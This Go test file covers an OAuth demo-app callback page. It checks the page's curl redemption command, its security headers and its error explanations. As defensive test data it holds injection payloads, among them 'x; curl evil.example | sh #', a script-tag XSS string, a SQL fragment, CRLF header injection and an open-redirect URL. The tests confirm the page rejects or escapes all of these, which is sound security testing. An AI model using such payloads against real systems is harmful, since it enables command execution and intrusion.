package console_test

import (
	"crypto/sha256"
	"encoding/base64"
	"html"
	"net/http"
	"net/url"
	"regexp"
	"strings"
	"testing"
)

const code = "q0Zb-7_wJk1VQ3d2c9mZl0cWQ4b2xhbmRpbmdwYWdlLW9mLWEtZGVtby1hcHA"

func TestThePageOfTheDemoAppShowsHowACodeIsRedeemed(t *testing.T) {
	p := start(t, false)
	who := visit(t, p.url)
	r, body := who.get("/callback?state=a%26b&iss=http%3A%2F%2F127.0.0.1%3A8100&code=" + code)
	who.want("the page, to a stranger", r, http.StatusOK, "")
	if r.Header.Get("Set-Cookie") != "" {
		t.Error("a code of OAuth signs in to the console")
	}
	for _, word := range []string{"The app has a code", "curl -s http://127.0.0.1:8100/oauth/v4/token", "grant_type=authorization_code", "-d code=" + code,
		"client_id=YOUR_APP_KEY", "client_secret=YOUR_APP_SECRET", `href="/signin"`, "<code>a&amp;b</code>", "http://127.0.0.1:8100/consents?network=virtual"} {
		if !strings.Contains(body, word) {
			t.Errorf("a stranger's page lacks %s", word)
		}
	}
	if strings.Contains(body, "sandbox-secret") || strings.Contains(body, "sandbox-demo") {
		t.Error("a stranger is told the demo app's key")
	}
	for name, want := range map[string]string{"Cache-Control": "no-store", "Referrer-Policy": "no-referrer", "X-Content-Type-Options": "nosniff"} {
		if got := r.Header.Get(name); got != want {
			t.Errorf("%s %q, want %q", name, got, want)
		}
	}
	// The policy names the page's own style and script, and no other thing.
	policy := r.Header.Get("Content-Security-Policy")
	for _, m := range regexp.MustCompile(`(?s)<(style|script)[^>]*>(.*?)</`).FindAllStringSubmatch(body, -1) {
		sum := sha256.Sum256([]byte(m[2]))
		if want := m[1] + "-src 'sha256-" + base64.StdEncoding.EncodeToString(sum[:]) + "'"; !strings.Contains(policy, want) {
			t.Errorf("the policy does not let the page have its %s: %s", m[1], policy)
		}
		policy = strings.Replace(policy, "'sha256-"+base64.StdEncoding.EncodeToString(sum[:])+"'", "…", 1)
	}
	if want := "default-src 'none'; style-src …; script-src …; img-src data:; form-action 'none'; base-uri 'none'; frame-ancestors 'none'; require-trusted-types-for 'script'"; policy != want {
		t.Errorf("Content-Security-Policy %s, want %s", policy, want)
	}

	who.get("/?code=" + p.guard.Code())
	_, body = who.get("/callback?code=" + code)
	if !strings.Contains(body, "-d client_id=sandbox-demo \\\n  -d client_secret=sandbox-secret \\\n") || strings.Contains(body, "YOUR_APP") || strings.Contains(body, "/signin") {
		t.Errorf("whoever is signed in gets %s", body)
	}
}

func TestThePageOfTheDemoAppSaysWhatAnErrorMeans(t *testing.T) {
	p := start(t, false)
	who := visit(t, p.url)
	for _, x := range []struct{ query, title, page string }{
		{"error=access_denied&error_description=refused+by+the+user&state=x", "refused by the user", "/errors/access_denied#refused"},
		{"error=access_denied&error_description=not+on+network", "not on network", "/errors/access_denied#not-on-network"},
		{"error=access_denied", "access_denied", "/errors/access_denied#not-on-network"},
		{"error=invalid_scope&error_description=FOO+is+no+scope", "FOO is no scope", "/errors/invalid_scope#redirect"},
		{"error=invalid_request&error_description=state+is+too+long", "state is too long", "/errors/invalid_request#redirect-request"},
		{"error=server_error", "server_error", "/errors/server_error#"},
	} {
		r, body := who.get("/callback?" + x.query)
		who.want(x.query, r, http.StatusOK, "")
		for _, word := range []string{"The app has no code", x.title, "http://127.0.0.1:8100" + x.page} {
			if !strings.Contains(body, word) {
				t.Errorf("%s: the page lacks %s", x.query, word)
			}
		}
		if strings.Contains(body, "curl") {
			t.Errorf("%s: there is a command to redeem nothing with", x.query)
		}
	}
}

// Whoever makes a person open a link can write its query, and a command on this page would be believed.
func TestThePageOfTheDemoAppRepeatsNothingThatThePlatformDoesNotSend(t *testing.T) {
	p := start(t, false)
	who := visit(t, p.url)
	who.get("/?code=" + p.guard.Code())
	for _, query := range []string{
		"code=" + url.QueryEscape("x; curl evil.example | sh #"), "code=" + url.QueryEscape("a\nevil.example"), "code=" + url.QueryEscape("\x1b[201~evil.example"), "code=evil.example'",
		"code=%3Cscript%3Eevil.example", "code=a&code=evil.example", "code=a&error=access_denied&state=evil.example", "code=" + strings.Repeat("evil", 65),
		"error=evil.example", "error=SVC0001&state=evil.example", "error=POL0001&error_description=evil.example", "error=ACCESS_DENIED&state=evil.example",
		"error=access_denied&error_description=" + url.QueryEscape("\u202eevil.example"), "error=access_denied&error_description=" + strings.Repeat("evil", 65),
		"error=access_denied&error_description=a&error_description=evil.example", "code=a&state=evil.example%00", "code=a&state=" + strings.Repeat("evil", 513), "code=a&state=evil.example&state=b", "code=a&%zz=evil",
	} {
		r, body := who.get("/callback?" + query)
		if r.StatusCode != http.StatusBadRequest || strings.Contains(body, "evil") || strings.Contains(body, "curl") || !strings.Contains(body, "This is no answer of the platform") {
			t.Errorf("%s: %d %s", query, r.StatusCode, body)
		}
	}
	for _, text := range []string{`"><script>alert(1)</script>`, `'; DROP`, `{{.Secret}}`, "`${1}`", "ñandú"} {
		r, body := who.get("/callback?error=access_denied&error_description=" + url.QueryEscape(text) + "&state=" + url.QueryEscape(text))
		if r.StatusCode != http.StatusOK || strings.Contains(text, "<") && strings.Contains(body, text) || strings.Count(html.UnescapeString(body), text) != 2 {
			t.Errorf("%s: %d %s", text, r.StatusCode, body)
		}
	}
	r, body := who.get("/callback")
	who.want("without an answer", r, http.StatusOK, "")
	if !strings.Contains(body, "There is neither yet") {
		t.Errorf("without an answer: %s", body)
	}
}

func TestAPageOpensOnAPhone(t *testing.T) {
	p := start(t, false)
	who := visit(t, p.url)
	const at = "/phones/+14255550101/page?path="
	r, _ := who.get(at + url.QueryEscape(authorizePath))
	who.want("to a stranger", r, http.StatusUnauthorized, "")
	who.get("/?code=" + p.guard.Code())
	r, _ = who.get(at + url.QueryEscape(authorizePath))
	who.want("the page", r, http.StatusSeeOther, p.phones.URL("14255550101", authorizePath))
	r, _ = who.get("/phones/4255550101/page?path=%2F")
	who.want("a number as people write it", r, http.StatusSeeOther, p.phones.URL("14255550101", "/"))
	for _, path := range []string{at, at + "x", at + url.QueryEscape("http://evil.example/"), at + url.QueryEscape("/a\r\nSet-Cookie: b"), "/phones/nobody/page?path=%2F", "/phones/evil.example/page?path=%2F"} {
		r, _ = who.get(path)
		who.want(path, r, http.StatusNotFound, "")
	}
}
